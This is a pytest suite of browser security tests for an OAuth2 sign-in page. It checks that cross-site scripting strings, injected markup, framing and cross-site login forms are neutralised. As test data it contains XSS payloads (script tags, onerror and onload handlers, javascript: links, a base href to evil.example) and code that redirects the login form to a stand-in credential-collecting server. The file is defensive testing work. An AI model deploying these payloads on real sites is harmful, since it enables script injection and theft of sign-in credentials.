"""What another site can do with our pages in the browser of somebody who signs in: nothing."""

from __future__ import annotations

import html
import re

import pytest
import requests

from tests.contract.browser import PASSWORD, USER
from tests.security.browser.asking import Ask, elsewhere
from tests.security.browser.driver import Browser

NASTY = "\"'></title></strong><script>window.ours=1</script><img src=x onerror=window.ours=1><b onclick=x>"


@pytest.mark.parametrize("name", ["client_id", "state", "scope", "code_challenge", "redirect_uri", "response_type"])
def test_a_script_in_a_parameter_stays_text(browser: Browser, ask: Ask, name: str) -> None:
    browser.open("about:blank")
    browser.complaints()
    browser.open(ask(**{name: NASTY}))
    assert browser.run("return window.ours") is None
    assert browser.found("script, img, b") == []
    assert browser.found("h1")
    assert not [line for line in browser.complaints() if "Content Security Policy" in line]


def test_a_script_as_user_name_stays_text(browser: Browser, ask: Ask) -> None:
    browser.open(ask())
    browser.type("#user", NASTY)
    browser.type("#password", "wrong")
    browser.click("button")
    browser.until(lambda: browser.found("#problem"))
    assert browser.run("return [window.ours ?? null, user.value]") == [None, NASTY]


@pytest.mark.parametrize("inserted", [
    "<img src=x onerror='window.ours=1'>",
    "<a id=link href='javascript:window.ours=1'>x</a>",
    "<iframe srcdoc='<script>parent.ours=1</script>'></iframe>",
    "<style>h1 { display: none }</style>",
    "<svg onload='window.ours=1'></svg>",
    "<base href='https://evil.example/'>",
    "<h1 style='display: none'>x</h1>",
])
def test_markup_that_got_in_all_the_same_could_do_nothing(browser: Browser, ask: Ask, inserted: str) -> None:
    browser.open(ask())
    browser.complaints()
    browser.run("document.querySelector('main').insertAdjacentHTML('beforeend', arguments[0]);"
                "const link = document.querySelector('#link'); if (link) link.click();", inserted)
    browser.until_refused("Content Security Policy")
    assert browser.run("return [window.ours ?? null, getComputedStyle(document.querySelector('h1')).display,"
                       "document.baseURI.startsWith('http://localhost')]") == [None, "block", True]


def test_a_script_element_that_got_in_would_not_run(browser: Browser, ask: Ask) -> None:
    browser.open(ask())
    browser.complaints()
    browser.run("const it = document.createElement('script'); it.text = 'window.ours=1'; document.body.append(it);"
                "const far = document.createElement('script'); far.src = 'http://127.0.0.1:1/x.js';"
                "document.body.append(far);")
    assert browser.run("return window.ours ?? null") is None
    assert len([line for line in browser.complaints() if "Content Security Policy" in line]) == 2


def test_a_form_that_got_in_could_send_nothing_elsewhere(browser: Browser, ask: Ask) -> None:
    with elsewhere() as thief:
        browser.open(ask())
        browser.run("const form = document.querySelector('form'); form.action = arguments[0] + '/stolen';",
                    thief.url)
        browser.complaints()
        browser.type("#user", USER)
        browser.type("#password", PASSWORD)
        browser.click("button")
        browser.until_refused("form-action")
    assert thief.paths == []


def test_no_other_site_can_frame_the_page(browser: Browser, ask: Ask) -> None:
    with elsewhere() as other:
        other.page = f"<!doctype html><title>Win!</title><iframe src='{html.escape(ask())}'></iframe>"
        browser.complaints()
        browser.open(other.url)
        said = browser.until_refused("frame")
    assert any("frame-ancestors" in line or "X-Frame-Options" in line for line in said)


def test_another_sites_form_signs_nobody_in(browser: Browser, ask: Ask) -> None:
    shown = requests.get(ask(), timeout=30).text
    hidden = "".join(re.findall(r'<input type="hidden"[^>]*>', shown))
    with elsewhere() as other:
        other.page = (
            f'<!doctype html><form method="post" action="{ask.url}/oauth2/auth">{hidden}'
            f'<input name="user" value="{USER}"><input name="password" value="{PASSWORD}"><button>Win!</button></form>'
        )
        browser.open(other.url)
        browser.click("button")
        browser.until(lambda: browser.found("#problem"))
    assert not browser.found("#code")
    assert browser.url == f"{ask.url}/oauth2/auth"
